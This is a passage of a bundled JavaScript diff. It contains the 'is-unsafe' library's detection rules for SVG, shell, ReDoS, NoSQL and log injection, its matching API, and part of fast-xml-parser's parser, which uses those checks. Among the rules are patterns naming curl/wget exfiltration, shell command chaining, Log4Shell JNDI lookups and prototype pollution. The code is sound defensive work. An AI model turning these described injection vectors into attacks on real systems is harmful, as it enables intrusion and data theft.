+    description: 'Generic on* handler catch-all for SVG attributes',
+    pattern: /\bon\w{1,30}\s*=/i,
+  },
+  {
+    id: 'svg-filter-feimage',
+    description: '<feImage href= — filter primitive that can load external resources',
+    pattern: /<feImage[\s\S]{0,80}(?:xlink\s*:\s*)?href\s*=/i,
+  },
+  {
+    id: 'svg-image-external',
+    description: '<image xlink:href with http/https or javascript protocol',
+    pattern: /<image[\s\S]{0,80}(?:xlink\s*:\s*)?href\s*=\s*["']?\s*(?:https?|javascript)\s*:/i,
+  },
+  {
+    id: 'svg-style-javascript',
+    description: 'style= attribute containing javascript: (e.g. background:url(javascript:...))',
+    pattern: /style\s*=[\s\S]{0,60}javascript\s*:/i,
+  },
+];
+
+/* harmony default export */ const svg = (SVG_PATTERNS);
+
+;// CONCATENATED MODULE: ./node_modules/is-unsafe/src/contexts/shell.js
+/**
+ * SHELL context patterns.
+ *
+ * Detects shell injection vectors and path traversal patterns.
+ * Designed for use when a string will be passed to a shell command,
+ * used as a file path, or interpolated into OS-level operations.
+ */
+
+const SHELL_PATTERNS = [
+  {
+    id: 'shell-path-traversal-unix',
+    description: 'Unix path traversal: ../  — climbing the directory tree',
+    pattern: /\.\.\//,
+  },
+  {
+    id: 'shell-path-traversal-windows',
+    description: 'Windows path traversal: ..\\ — climbing the directory tree',
+    pattern: /\.\.\\/,
+  },
+  {
+    id: 'shell-path-traversal-encoded',
+    description: 'URL-encoded path traversal: %2e%2e or %2f variants',
+    pattern: /%2e%2e|%2f\.\.|\.\.%2f/i,
+  },
+  {
+    id: 'shell-null-byte',
+    description: 'Null byte injection: \\x00 or %00 — truncates strings in C-backed functions',
+    pattern: /\x00|%00/,
+  },
+  {
+    id: 'shell-semicolon',
+    description: 'Semicolon command separator: cmd1; cmd2',
+    pattern: /;/,
+  },
+  {
+    id: 'shell-pipe',
+    description: 'Pipe operator: cmd1 | cmd2',
+    pattern: /\|/,
+  },
+  {
+    id: 'shell-and-operator',
+    description: 'AND operator: cmd1 && cmd2',
+    pattern: /&&/,
+  },
+  {
+    id: 'shell-or-operator',
+    description: 'OR operator: cmd1 || cmd2',
+    pattern: /\|\|/,
+  },
+  {
+    id: 'shell-backtick',
+    description: 'Backtick command substitution: `cmd`',
+    pattern: /`/,
+  },
+  {
+    id: 'shell-dollar-paren',
+    description: 'Dollar-paren command substitution: $(cmd)',
+    pattern: /\$\(/,
+  },
+  {
+    id: 'shell-dollar-brace',
+    description: 'Dollar-brace variable expansion: ${var} — can be abused for injection',
+    pattern: /\$\{/,
+  },
+  {
+    id: 'shell-redirect-out',
+    description: 'Output redirection: cmd > file or cmd >> file',
+    pattern: />{1,2}/,
+  },
+  {
+    id: 'shell-redirect-in',
+    description: 'Input redirection: cmd < file',
+    pattern: /</,
+  },
+  {
+    id: 'shell-newline-injection',
+    description: 'Newline injection: \\n or \\r — can inject new shell commands',
+    pattern: /[\n\r]/,
+  },
+  {
+    id: 'shell-glob-star',
+    description: 'Glob expansion: * or ? — can expand to unintended files',
+    // Only flag when combined with path separators to reduce false positives
+    pattern: /[/\\][*?]/,
+  },
+  {
+    id: 'shell-absolute-root',
+    description: 'Absolute root path injection: string starting with / or \\ (Windows UNC)',
+    pattern: /^(?:\/|\\\\)/,
+  },
+  {
+    id: 'shell-windows-drive',
+    description: 'Windows drive letter path injection: C:\\ or D:/',
+    pattern: /^[a-zA-Z]:[/\\]/,
+  },
+  {
+    id: 'shell-curl-wget',
+    description: 'curl/wget with URL or flags — can exfiltrate data or download payloads',
+    // Require a URL scheme (http/https/ftp) or a flag (-) to reduce false positives
+    // "curl is a tool" won't match; "curl http://..." or "curl -s ..." will
+    pattern: /\b(?:curl|wget)\s+(?:https?:\/\/|ftp:\/\/|-)/i,
+  },
+];
+
+/* harmony default export */ const shell = (SHELL_PATTERNS);
+
+;// CONCATENATED MODULE: ./node_modules/is-unsafe/src/contexts/redos.js
+/**
+ * REDOS context patterns.
+ *
+ * Detects strings that, if used as regular expressions, could cause
+ * catastrophic backtracking (ReDoS — Regular Expression Denial of Service).
+ *
+ * These patterns detect the structural forms that lead to exponential or
+ * polynomial backtracking in NFA-based regex engines (V8, PCRE, Java, etc.).
+ *
+ * Use this context when user-supplied strings will be compiled into RegExp objects.
+ */
+
+const REDOS_PATTERNS = [
+  {
+    id: 'redos-nested-quantifier-plus',
+    description: 'Nested + quantifier inside a group with outer quantifier: (a+)+, (.+b)*, etc.',
+    // Matches any group containing a + quantifier, with an outer * or + — catches (a+)+, (.+b)*, etc.
+    pattern: /\([^)]*\+[^)]*\)[+*]/,
+  },
+  {
+    id: 'redos-nested-quantifier-star',
+    description: 'Nested * quantifier: (a*)* or (a*)+ — catastrophic backtracking',
+    pattern: /\([^)]*\*[^)]*\)[*+]/,
+  },
+  {
+    id: 'redos-nested-groups',
+    description: 'Doubly nested quantified groups: ((a+)+) — guaranteed catastrophic',
+    pattern: /\(\([^)]{0,40}\)[+*]\)[+*]/,
+  },
+  {
+    id: 'redos-alternation-overlap',
+    description: 'Overlapping alternation under quantifier: (a|a)+ — ambiguous NFA paths',
+    // Detect repeated identical alternatives under a quantifier
+    pattern: /\(([^|()]{1,20})\|(?:\1)(?:\|[^|()]{1,20}){0,5}\)[+*?]{1,2}/,
+  },
+  {
+    id: 'redos-star-plus-concat',
+    description: '(x*x)+ pattern — triggers super-linear backtracking',
+    pattern: /\([^)]{0,10}\*[^)]{0,10}\)[+*]/,
+  },
+  {
+    id: 'redos-dot-star-greedy',
+    description: '(.*){n,} or (.+){n,} — repeated greedy dot quantifiers',
+    pattern: /\(\.[*+]\)\{?\d/,
+  },
+  {
+    id: 'redos-large-repetition',
+    description: 'Very large fixed or range repetition count {1000,} or {1000,n} — denial of service via backtracking',
+    // Matches { followed by 4+ digits (≥1000), then optional ,digits }
+    pattern: /\{\d{4,}(?:,\d*)?\}/,
+  },
+  {
+    id: 'redos-catastrophic-alternation',
+    description: 'Long alternation with many similar branches — polynomial backtracking risk',
+    // Heuristic: 10+ pipe-separated alternatives in a single group
+    pattern: /\([^)]{0,200}(?:\|[^|)]{0,50}){9,}\)/,
+  },
+];
+
+/* harmony default export */ const redos = (REDOS_PATTERNS);
+
+;// CONCATENATED MODULE: ./node_modules/is-unsafe/src/contexts/nosql.js
+/**
+ * NOSQL context patterns.
+ *
+ * Detects injection vectors specific to NoSQL databases (primarily MongoDB)
+ * and JavaScript-evaluated queries.
+ *
+ * Attack categories:
+ *   1. MongoDB query operator injection: $where, $ne, $gt, $regex, $or, $and, etc.
+ *      These operators, when injected into a JSON query object, can bypass
+ *      authentication or exfiltrate data without knowing passwords.
+ *
+ *   2. JavaScript execution: $where clauses execute arbitrary JS server-side.
+ *
+ *   3. Prototype pollution: __proto__, constructor.prototype — can corrupt
+ *      the prototype chain of all objects in the Node.js process.
+ *
+ * Pattern note: MongoDB operators appear as JSON keys. In JSON, keys are
+ * quoted: {"$where": ...} so the pattern must allow an optional closing
+ * quote between the operator name and the colon: /\$where["'\s]*:/
+ */
+
+// Shared suffix: optional closing quote/whitespace before the colon
+// Handles: $op: (bare), "$op": (JSON), '$op': (single-quoted)
+const nosql_SEP = /["'\s]*:/;
+const sep = '["\'\\s]*:';
+
+const NOSQL_PATTERNS = [
+  // ─── MongoDB $ operator injection ────────────────────────────────────────
+  {
+    id: 'nosql-where-operator',
+    description: '$where — executes arbitrary JavaScript server-side in MongoDB',
+    pattern: new RegExp(`\\$where${sep}`, 'i'),
+  },
+  {
+    id: 'nosql-ne-operator',
+    description: '$ne — "not equal" operator used to bypass equality checks',
+    pattern: new RegExp(`\\$ne${sep}`, 'i'),
+  },
+  {
+    id: 'nosql-gt-operator',
+    description: '$gt — "greater than" used to bypass password/value checks',
+    pattern: new RegExp(`\\$gte?${sep}`, 'i'),
+  },
+  {
+    id: 'nosql-lt-operator',
+    description: '$lt / $lte — "less than" bypass variants',
+    pattern: new RegExp(`\\$lte?${sep}`, 'i'),
+  },
+  {
+    id: 'nosql-regex-operator',
+    description: '$regex — can be used to extract data character by character (blind injection)',
+    pattern: new RegExp(`\\$regex${sep}`, 'i'),
+  },
+  {
+    id: 'nosql-or-operator',
+    description: '$or — logical OR; used to create always-true conditions',
+    pattern: new RegExp(`\\$or${sep}\\s*\\[`, 'i'),
+  },
+  {
+    id: 'nosql-and-operator',
+    description: '$and — logical AND operator injection',
+    pattern: new RegExp(`\\$and${sep}\\s*\\[`, 'i'),
+  },
+  {
+    id: 'nosql-nor-operator',
+    description: '$nor — logical NOR operator injection',
+    pattern: new RegExp(`\\$nor${sep}\\s*\\[`, 'i'),
+  },
+  {
+    id: 'nosql-exists-operator',
+    description: '$exists — can enumerate fields to determine schema',
+    pattern: new RegExp(`\\$exists${sep}`, 'i'),
+  },
+  {
+    id: 'nosql-in-operator',
+    description: '$in — matches any value in a list; can enumerate values',
+    pattern: new RegExp(`\\$in${sep}\\s*\\[`, 'i'),
+  },
+  {
+    id: 'nosql-expr-operator',
+    description: '$expr — allows aggregation expressions in queries (MongoDB 3.6+)',
+    pattern: new RegExp(`\\$expr${sep}`, 'i'),
+  },
+  {
+    id: 'nosql-function-operator',
+    description: '$function — executes arbitrary JavaScript in MongoDB 4.4+',
+    pattern: new RegExp(`\\$function${sep}`, 'i'),
+  },
+  {
+    id: 'nosql-accumulator-operator',
+    description: '$accumulator — custom aggregation with arbitrary JS execution',
+    pattern: new RegExp(`\\$accumulator${sep}`, 'i'),
+  },
+  // ─── Prototype pollution ─────────────────────────────────────────────────
+  {
+    id: 'nosql-proto-pollution',
+    description: '__proto__ — prototype pollution via object key injection',
+    pattern: /__proto__/,
+  },
+  {
+    id: 'nosql-constructor-prototype',
+    description: 'constructor.prototype — alternative prototype pollution vector (dot notation or JSON key)',
+    // Matches dot-notation (obj.constructor.prototype) and JSON key adjacency
+    // ("constructor": {"prototype": ...})
+    pattern: /constructor[\s"':.,{\[]*prototype/i,
+  },
+  {
+    id: 'nosql-proto-bracket',
+    description: '["__proto__"] — bracket-notation prototype pollution',
+    pattern: /\[["']__proto__["']\]/,
+  },
+];
+
+/* harmony default export */ const nosql = (NOSQL_PATTERNS);
+
+;// CONCATENATED MODULE: ./node_modules/is-unsafe/src/contexts/log.js
+/**
+ * LOG context patterns.
+ *
+ * Detects injection vectors that are dangerous when a string is written
+ * to a log file, passed to a logging framework, or interpolated into
+ * a log message that will be parsed or displayed.
+ *
+ * Attack categories:
+ *   1. CRLF injection — injects fake log lines by embedding newlines
+ *   2. Log4Shell (CVE-2021-44228) — ${jndi:...} triggers JNDI lookup in Log4j
+ *   3. SSTI in log templates — {{...}}, #{...} trigger template evaluation
+ *      if the log message is passed through a template engine
+ *   4. Null byte injection — truncates log entries in some implementations
+ *   5. ANSI escape injection — manipulates terminal output when logs are
+ *      tailed in a terminal (colour codes, cursor movement, etc.)
+ *
+ * Note: Newline characters (\n, \r) will produce false positives for
+ * multi-line legitimate values. Use this context only for single-line
+ * log field values (usernames, IDs, request parameters, etc.).
+ */
+
+const LOG_PATTERNS = [
+  // ─── CRLF / newline injection ─────────────────────────────────────────────
+  {
+    id: 'log-crlf-injection',
+    description: 'CRLF injection: literal \\r or \\n embeds fake log lines',
+    pattern: /[\r\n]/,
+  },
+  {
+    id: 'log-url-encoded-crlf',
+    description: 'URL-encoded CRLF: %0d, %0a, %0D, %0A — decoded by some log parsers',
+    pattern: /%0[dDaA]/,
+  },
+  {
+    id: 'log-unicode-newline',
+    description: 'Unicode newline variants: U+2028 (line separator), U+2029 (paragraph separator)',
+    pattern: /[\u2028\u2029]/,
+  },
+
+  // ─── Log4Shell / JNDI injection (CVE-2021-44228) ─────────────────────────
+  {
+    id: 'log-log4shell-jndi',
+    description: 'Log4Shell: ${jndi:...} triggers remote code execution in Apache Log4j',
+    pattern: /\$\{jndi\s*:/i,
+  },
+  {
+    id: 'log-log4shell-obfuscated',
+    description: 'Obfuscated Log4Shell: ${::-j}... lookup-bypass prefix used to evade WAF detection',
+    // ${::- is the Log4j lookup-bypass escape sequence; presence alone is suspicious
+    pattern: /\$\{::-/,
+  },
+  {
+    id: 'log-log4j-lookup',
+    description: 'Log4j lookup syntax: ${env:...}, ${sys:...}, ${ctx:...} — data exfiltration',
+    pattern: /\$\{(?:env|sys|ctx|main|map|sd|web|docker|k8s|spring)\s*:/i,
+  },
+
+  // ─── Server-Side Template Injection (SSTI) in log messages ───────────────
+  {
+    id: 'log-ssti-double-brace',
+    description: 'SSTI double-brace: {{expression}} — Jinja2, Twig, Handlebars, etc.',
+    pattern: /\{\{[\s\S]{0,80}\}\}/,
+  },
+  {
+    id: 'log-ssti-hash-brace',
+    description: 'SSTI hash-brace: #{expression} — Thymeleaf, Velocity, Ruby ERB',
+    pattern: /#\{[\s\S]{0,80}\}/,
+  },
+  {
+    id: 'log-ssti-dollar-brace',
+    description: 'SSTI/EL injection: ${expression with operators or method calls} — JSP EL, Freemarker, SpEL',
+    // Require that the ${...} content looks like an expression, not a plain variable name.
+    // Flags if the content contains: . ( * + operators, or known SSTI keywords.
+    // This avoids flagging ${PATH}, ${HOME} etc. (plain shell variables).
+    pattern: /\$\{[^}]*(?:\.|\(|\*|\+|\bclass\b|\bruntime\b|\bprocess\b|\bexec\b)[^}]{0,80}\}/i,
+  },
+  {
+    id: 'log-ssti-percent-tag',
+    description: 'SSTI ERB/ASP tag: <%= expression %> — Ruby ERB, ASP',
+    pattern: /<%=[\s\S]{0,80}%>/,
+  },
+
+  // ─── Null byte ────────────────────────────────────────────────────────────
+  {
+    id: 'log-null-byte',
+    description: 'Null byte: \\x00 or %00 — can truncate log entries in C-backed loggers',
+    pattern: /\x00|%00/,
+  },
+
+  // ─── ANSI escape injection ────────────────────────────────────────────────
+  {
+    id: 'log-ansi-escape',
+    description: 'ANSI escape sequence: ESC[ — can manipulate terminal output when logs are tailed',
+    pattern: /\x1b\[/,
+  },
+];
+
+/* harmony default export */ const log = (LOG_PATTERNS);
+
+;// CONCATENATED MODULE: ./node_modules/is-unsafe/src/index.js
+/**
+ * is-unsafe v2
+ *
+ * Zero-dependency, DOM-free, pure predicate for detecting unsafe strings
+ * across HTML, XML, SVG, SQL, SQL-STRICT, SHELL, REDOS, NOSQL, and LOG contexts.
+ *
+ * v2 change: contexts are imported as named pattern arrays rather than resolved
+ * via a string-keyed registry. This makes each context independently
+ * tree-shakeable — bundlers can drop any context you never import.
+ *
+ * @module is-unsafe
+ */
+
+// ─── Context pattern arrays (named exports) ────────────────────────────────
+// Import only the ones you need. Each is independently tree-shakeable.
+
+
+
+
+
+
+
+
+
+
+// SQL-STRICT needs a quoted identifier because of the hyphen
+
+
+
+// Markup contexts are also matched against an entity-decoded copy of the input,
+// because browsers decode HTML character references before interpreting a URL
+// scheme (e.g. javascript&#58;… is a javascript: URL).
+
+
+// ─── VALID_CONTEXTS convenience re-export ─────────────────────────────────
+// Importing this pulls in ALL contexts. Use it only when you need all of them
+// (e.g. for validation UI, tooling, or exhaustive audits).
+// If you only need a subset, import the named contexts directly instead.
+
+
+
+
+
+
+
+
+
+
+// ─── Attach labels to named contexts ──────────────────────────────────────
+// Each built-in PatternList carries its canonical name so matchList can read
+// list.label directly — no registry lookup needed at match time.
+// Custom PatternLists default to 'CUSTOM' unless the caller sets list.label.
+
+html.label       = 'HTML';
+xml.label        = 'XML';
+svg.label        = 'SVG';
+
+// Markup contexts: also test an entity-decoded copy (see util/decode-entities.js).
+// Non-markup contexts (SQL, SHELL, LOG, …) are matched byte-for-byte as supplied.
+html.decodeEntities = true;
+xml.decodeEntities  = true;
+svg.decodeEntities  = true;
+sql.label        = 'SQL';
+sql_strict.label = 'SQL-STRICT';
+shell.label      = 'SHELL';
+redos.label      = 'REDOS';
+nosql.label      = 'NOSQL';
+log.label        = 'LOG';
+
+const VALID_CONTEXTS = Object.freeze({
+  HTML: html,
+  XML: xml,
+  SVG: svg,
+  SQL: sql,
+  'SQL-STRICT': sql_strict,
+  SHELL: shell,
+  REDOS: redos,
+  NOSQL: nosql,
+  LOG: log,
+});
+
+// ─── Types ────────────────────────────────────────────────────────────────
+
+/**
+ * @typedef {{ id: string, description: string, pattern: RegExp }} Rule
+ */
+
+/**
+ * @typedef {Rule[]} PatternList
+ */
+
+/**
+ * @typedef {Object} MatchResult
+ * @property {string} context     - Label identifying which context matched ('HTML', 'CUSTOM', etc.)
+ * @property {string} id          - Rule identifier
+ * @property {string} description - Human-readable description of what was matched
+ * @property {RegExp} pattern     - The pattern that matched
+ */
+
+// ─── Internal helpers ──────────────────────────────────────────────────────
+
+/**
+ * @param {unknown} value
+ */
+function assertString(value) {
+  if (typeof value !== 'string') {
+    throw new TypeError(
+      `is-unsafe: first argument must be a string, got ${typeof value}`
+    );
+  }
+}
+
+/**
+ * @param {unknown} context
+ */
+function assertContext(context) {
+  if (context instanceof RegExp) return;
+
+  if (Array.isArray(context)) {
+    if (context.length === 0) {
+      throw new TypeError('is-unsafe: context must not be an empty array');
+    }
+    // Detect array-of-arrays vs flat pattern list
+    if (Array.isArray(context[0])) {
+      // Array of PatternLists
+      for (const list of context) {
+        if (!Array.isArray(list) || list.length === 0) {
+          throw new TypeError(
+            'is-unsafe: each context in the array must be a non-empty pattern array (PatternList)'
+          );
+        }
+      }
+    }
+    // else: flat PatternList — trust it, no deep validation needed
+    return;
+  }
+
+  throw new TypeError(
+    `is-unsafe: second argument must be a PatternList (e.g. HTML), ` +
+    `an array of PatternLists (e.g. [HTML, XML]), or a RegExp. Got: ${typeof context}`
+  );
+}
+
+/**
+ * Normalise any valid context arg into an array of PatternLists.
+ *
+ * @param {Rule[]|Rule[][]|RegExp} context
+ * @returns {{ lists: Rule[][]|null, regex: RegExp|null }}
+ */
+function normalise(context) {
+  if (context instanceof RegExp) return { lists: null, regex: context };
+  // Distinguish PatternList (array of rule objects) from array of PatternLists
+  if (Array.isArray(context[0])) return { lists: context, regex: null };
+  return { lists: [context], regex: null };
+}
+
+/**
+ * For markup contexts, return an entity-decoded copy of `value` to test
+ * alongside the raw input, or null when there is nothing extra to test.
+ *
+ * @param {string} value
+ * @param {Rule[]} list
+ * @returns {string|null}
+ */
+function decodedCopy(value, list) {
+  if (!list.decodeEntities) return null;
+  const decoded = decodeEntities(value);
+  return decoded === value ? null : decoded;
+}
+
+/**
+ * Test value against a single PatternList. Returns the first MatchResult or null.
+ *
+ * @param {string} value
+ * @param {Rule[]} list
+ * @returns {MatchResult|null}
+ */
+function matchList(value, list) {
+  const label = list.label ?? 'CUSTOM';
+  const decoded = decodedCopy(value, list);
+  for (const rule of list) {
+    if (rule.pattern.test(value) || (decoded !== null && rule.pattern.test(decoded))) {
+      return { context: label, id: rule.id, description: rule.description, pattern: rule.pattern };
+    }
+  }
+  return null;
+}
+
+// ─── Public API ───────────────────────────────────────────────────────────
+
+/**
+ * Returns `true` if `value` is unsafe in the given context(s), `false` otherwise.
+ *
+ * @param {string} value - The string to test
+ * @param {PatternList | PatternList[] | RegExp} context
+ *   - A PatternList imported from is-unsafe (e.g. `HTML`, `XML`)
+ *   - An array of PatternLists — returns true if unsafe in **any** of them
+ *   - A custom RegExp — returns true if the pattern matches
+ * @returns {boolean}
+ *
+ * @example
+ * import { isUnsafe, HTML, SQL } from 'is-unsafe';
+ *
+ * isUnsafe('<script>alert(1)</script>', HTML)       // true
+ * isUnsafe('hello world', HTML)                     // false
+ * isUnsafe('value', [HTML, SQL])                    // false
+ * isUnsafe('value', /my-pattern/i)                  // false
+ */
+function isUnsafe(value, context) {
+  assertString(value);
+  assertContext(context);
+
+  const { lists, regex } = normalise(context);
+
+  if (regex) return regex.test(value);
+
+  for (const list of lists) {
+    if (matchList(value, list) !== null) return true;
+  }
+  return false;
+}
+
+/**
+ * Like `isUnsafe`, but returns the first `MatchResult` describing **why**
+ * the value was flagged, or `null` if it is safe.
+ *
+ * @param {string} value
+ * @param {PatternList | PatternList[] | RegExp} context
+ * @returns {MatchResult|null}
+ *
+ * @example
+ * import { whyUnsafe, HTML } from 'is-unsafe';
+ *
+ * whyUnsafe('<script>alert(1)</script>', HTML)
+ * // { context: 'HTML', id: 'html-script-open', description: '...', pattern: /.../ }
+ */
+function whyUnsafe(value, context) {
+  assertString(value);
+  assertContext(context);
+
+  const { lists, regex } = normalise(context);
+
+  if (regex) {
+    return regex.test(value)
+      ? { context: 'CUSTOM', id: 'custom-regex', description: 'Matched caller-supplied pattern', pattern: regex }
+      : null;
+  }
+
+  for (const list of lists) {
+    const result = matchList(value, list);
+    if (result !== null) return result;
+  }
+  return null;
+}
+
+/**
+ * Returns **all** matching rules across the given context(s), or an empty
+ * array if the value is safe. Useful for comprehensive auditing.
+ *
+ * @param {string} value
+ * @param {PatternList | PatternList[] | RegExp} context
+ * @returns {MatchResult[]}
+ */
+function allUnsafe(value, context) {
+  assertString(value);
+  assertContext(context);
+
+  const { lists, regex } = normalise(context);
+  const results = [];
+
+  if (regex) {
+    if (regex.test(value)) {
+      results.push({ context: 'CUSTOM', id: 'custom-regex', description: 'Matched caller-supplied pattern', pattern: regex });
+    }
+    return results;
+  }
+
+  for (const list of lists) {
+    const label = list.label ?? 'CUSTOM';
+    const decoded = decodedCopy(value, list);
+    for (const rule of list) {
+      if (rule.pattern.test(value) || (decoded !== null && rule.pattern.test(decoded))) {
+        results.push({ context: label, id: rule.id, description: rule.description, pattern: rule.pattern });
+      }
+    }
+  }
+
+  return results;
+}
+
+
+/* harmony default export */ const src = ((/* unused pure expression or super */ null && (isUnsafe)));
+
+;// CONCATENATED MODULE: ./node_modules/fast-xml-parser/src/xmlparser/OrderedObjParser.js
+
+///@ts-check
+
+
+
+
+
+
+
+
+
+
+
+
+// const regx =
+//   '<((!\\[CDATA\\[([\\s\\S]*?)(]]>))|((NAME:)?(NAME))([^>]*)>|((\\/)(NAME)\\s*>))([^<]*)'
+//   .replace(/NAME/g, util.nameRegexp);
+
+//const tagsRegx = new RegExp("<(\\/?[\\w:\\-\._]+)([^>]*)>(\\s*"+cdataRegx+")*([^<]+)?","g");
+//const tagsRegx = new RegExp("<(\\/?)((\\w*:)?([\\w:\\-\._]+))([^>]*)>([^<]*)("+cdataRegx+"([^<]*))*([^<]+)?","g");
+
+// Helper functions for attribute and namespace handling
+
+/**
+ * Extract raw attributes (without prefix) from prefixed attribute map
+ * @param {object} prefixedAttrs - Attributes with prefix from buildAttributesMap
+ * @param {object} options - Parser options containing attributeNamePrefix
+ * @returns {object} Raw attributes for matcher
+ */
+function extractRawAttributes(prefixedAttrs, options) {
+  if (!prefixedAttrs) return {};
+
+  // Handle attributesGroupName option
+  const attrs = options.attributesGroupName
+    ? prefixedAttrs[options.attributesGroupName]
+    : prefixedAttrs;
+
+  if (!attrs) return {};
+
+  const rawAttrs = {};
+  for (const key in attrs) {
+    // Remove the attribute prefix to get raw name
+    if (key.startsWith(options.attributeNamePrefix)) {
+      const rawName = key.substring(options.attributeNamePrefix.length);
+      rawAttrs[rawName] = attrs[key];
+    } else {
+      // Attribute without prefix (shouldn't normally happen, but be safe)
+      rawAttrs[key] = attrs[key];
+    }
+  }
+  return rawAttrs;
+}
+
+/**
+ * Extract namespace from raw tag name
+ * @param {string} rawTagName - Tag name possibly with namespace (e.g., "soap:Envelope")
+ * @returns {string|undefined} Namespace or undefined
+ */
+function extractNamespace(rawTagName) {
+  if (!rawTagName || typeof rawTagName !== 'string') return undefined;
+
+  const colonIndex = rawTagName.indexOf(':');
+  if (colonIndex !== -1 && colonIndex > 0) {
+    const ns = rawTagName.substring(0, colonIndex);
+    // Don't treat xmlns as a namespace
+    if (ns !== 'xmlns') {
+      return ns;
+    }
+  }
+  return undefined;
+}
+
+class OrderedObjParser {
+  constructor(options, externalEntities) {
+    this.options = options;
+    this.currentNode = null;
+    this.tagsNodeStack = [];
+    this.parseXml = parseXml;
+    this.parseTextData = parseTextData;
+    this.resolveNameSpace = resolveNameSpace;
+    this.buildAttributesMap = buildAttributesMap;
+    this.isItStopNode = isItStopNode;
+    this.replaceEntitiesValue = replaceEntitiesValue;
+    this.readStopNodeData = readStopNodeData;
+    this.saveTextToParentTag = saveTextToParentTag;
+    this.addChild = addChild;
+    this.ignoreAttributesFn = getIgnoreAttributesFn(this.options.ignoreAttributes)
+    this.entityExpansionCount = 0;
+    this.currentExpandedLength = 0;
+    this.doctypefound = false;
+    let namedEntities = { ...XML };
+    if (this.options.entityDecoder) {
+      this.entityDecoder = this.options.entityDecoder
+    } else {
+      if (typeof this.options.htmlEntities === "object") namedEntities = this.options.htmlEntities;
+      else if (this.options.htmlEntities === true) namedEntities = { ...COMMON_HTML, ...CURRENCY };
+      this.entityDecoder = new EntityDecoder({
+        namedEntities: { ...namedEntities, ...externalEntities },
+        numericAllowed: this.options.htmlEntities,
+        limit: {
+          maxTotalExpansions: this.options.processEntities.maxTotalExpansions,
+          maxExpandedLength: this.options.processEntities.maxExpandedLength,
+          applyLimitsTo: this.options.processEntities.appliesTo,
+        },
+        // onExternalEntity: (name, value) => isUnsafe(value) ? 'block' : 'allow',
+        onInputEntity: (name, value) =>
+          //TODO: VALID_CONTEXTS.HTML should be set only if this.options.htmlEntities
+          isUnsafe(value, [html, xml]) ? ENTITY_ACTION.BLOCK : ENTITY_ACTION.ALLOW,
+
+        //postCheck: resolved => resolved
+      });
+    }
+
+    // Initialize path matcher for path-expression-matcher
+    this.matcher = new Matcher();
+    this.readonlyMatcher = this.matcher.readOnly();
+
+    // Flag to track if current node is a stop node (optimization)
+    this.isCurrentNodeStopNode = false;
+
+    // Pre-compile stopNodes expressions
+    this.stopNodeExpressionsSet = new ExpressionSet();
+    const stopNodesOpts = this.options.stopNodes;
+    if (stopNodesOpts && stopNodesOpts.length > 0) {
+      for (let i = 0; i < stopNodesOpts.length; i++) {
+        const stopNodeExp = stopNodesOpts[i];
+        if (typeof stopNodeExp === 'string') {
+          // Convert string to Expression object
+          this.stopNodeExpressionsSet.add(new Expression(stopNodeExp));
+        } else if (stopNodeExp instanceof Expression) {
+          // Already an Expression object
+          this.stopNodeExpressionsSet.add(stopNodeExp);
+        }
+      }
+      this.stopNodeExpressionsSet.seal();
+    }
+  }
+
+}
+
+
+/**
+ * @param {string} val
+ * @param {string} tagName
+ * @param {string|Matcher} jPath - jPath string or Matcher instance based on options.jPath
+ * @param {boolean} dontTrim
+ * @param {boolean} hasAttributes
+ * @param {boolean} isLeafNode
+ * @param {boolean} escapeEntities
+ */
+function parseTextData(val, tagName, jPath, dontTrim, hasAttributes, isLeafNode, escapeEntities) {
+  const options = this.options;
+  if (val !== undefined) {
+    if (options.trimValues && !dontTrim) {
+      val = val.trim();
+    }
+    if (val.length > 0) {
+      if (!escapeEntities) val = this.replaceEntitiesValue(val, tagName, jPath);
+
+      // Pass jPath string or matcher based on options.jPath setting
+      const jPathOrMatcher = options.jPath ? jPath.toString() : jPath;
+      const newval = options.tagValueProcessor(tagName, val, jPathOrMatcher, hasAttributes, isLeafNode);
+      if (newval === null || newval === undefined) {
+        //don't parse
+        return val;
+      } else if (typeof newval !== typeof val || newval !== val) {
+        //overwrite
+        return newval;
+      } else if (options.trimValues) {
+        return parseValue(val, options.parseTagValue, options.numberParseOptions);
+      } else {
+        const trimmedVal = val.trim();
+        if (trimmedVal === val) {
+          return parseValue(val, options.parseTagValue, options.numberParseOptions);
+        } else {
+          return val;
+        }
+      }
+    }
+  }
+}
+
+function resolveNameSpace(tagname) {
+  if (this.options.removeNSPrefix) {
+    const tags = tagname.split(':');
+    const prefix = tagname.charAt(0) === '/' ? '/' : '';
+    if (tags[0] === 'xmlns') {
+      return '';
+    }
+    if (tags.length === 2) {
+      tagname = prefix + tags[1];
+    }
+  }
+  return tagname;
+}
+
+//TODO: change regex to capture NS
+//const attrsRegx = new RegExp("([\\w\\-\\.\\:]+)\\s*=\\s*(['\"])((.|\n)*?)\\2","gm");
+// The value is matched with a negated class per quote type rather than a lazy `[\s\S]*?` up to a
+// backreference, which is much slower on long values (SVG paths, data URIs)
+const attrsRegx = /([^\s=]+)\s*(=\s*(?:"([^"]*)"|'([^']*)'))?/gm;
+
+// value inside double quotes, or inside single quotes, or undefined when there is no value
+function attrValue(match) {
+  return match[3] !== undefined ? match[3] : match[4];
+}
+
+function buildAttributesMap(attrStr, jPath, tagName, force = false) {
+  const options = this.options;
+  if (force === true || (options.ignoreAttributes !== true && typeof attrStr === 'string')) {
+    // attrStr = attrStr.replace(/\r?\n/g, ' ');
+    //attrStr = attrStr || attrStr.trim();
+
+    const matches = getAllMatches(attrStr, attrsRegx);
+    const len = matches.length; //don't make it inline
+    const attrs = {};
+
+    // Pre-process values once: trim + entity replacement
+    // Reused in both matcher update and second pass
+    const processedVals = new Array(len);
+    let hasRawAttrs = false;
+    const rawAttrsForMatcher = {};
+
+    for (let i = 0; i < len; i++) {
+      const attrName = this.resolveNameSpace(matches[i][1]);
+      const oldVal = attrValue(matches[i]);
+
+      if (attrName.length && oldVal !== undefined) {
+        let val = oldVal;
+        if (options.trimValues) val = val.trim();
+        val = this.replaceEntitiesValue(val, tagName, this.readonlyMatcher);
+        processedVals[i] = val;
+
+        rawAttrsForMatcher[attrName] = val;
+        hasRawAttrs = true;
+      }
+    }
+
+    // Update matcher ONCE before second pass, if applicable
+    if (hasRawAttrs && typeof jPath === 'object' && jPath.updateCurrent) {
+      jPath.updateCurrent(rawAttrsForMatcher);
+    }
+
+    // Hoist toString() once — path doesn't change during attribute processing
+    const jPathStr = options.jPath ? jPath.toString() : this.readonlyMatcher;
+
+    // Second pass: apply processors, build final attrs
+    let hasAttrs = false;
+    for (let i = 0; i < len; i++) {
+      const attrName = this.resolveNameSpace(matches[i][1]);
+
+      if (this.ignoreAttributesFn(attrName, jPathStr)) continue;
+
+      let aName = options.attributeNamePrefix + attrName;
+
